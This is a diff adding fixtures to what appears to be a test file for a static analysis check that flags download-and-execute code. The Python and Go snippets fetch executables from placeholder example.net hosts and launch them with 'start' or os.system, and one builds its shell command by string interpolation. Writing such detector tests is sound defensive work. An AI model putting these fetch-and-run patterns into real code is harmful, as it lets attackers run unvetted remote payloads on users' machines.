@@ -26,6 +26,25 @@ export const check: FileCheck = {
           os.system("start update.exe")`,
       },
       {
+        'load.py': `
+          import subprocess
+          def load(url, path):
+              subprocess.call(f'«curl -o {path}» {url} && start {path}', shell=True)`,
+      },
+      {
+        'steps.py': `
+          import os, urllib.request
+          BASE = 'https://files.example.net/latest'
+          class Steps:
+              def fetch(url):
+                  path = os.environ["TEMP"] + "/bin.exe"
+                  urllib.request.«urlretrieve(url, path)»
+                  return path
+              def run(path):
+                  os.system(f'start {path}')
+          Steps.run(Steps.fetch(BASE))`,
+      },
+      {
         'main.go': `
           resp, _ := http.Get("https://cdn.example.net/agent")
           out, _ := «os.Create("/tmp/agent")»
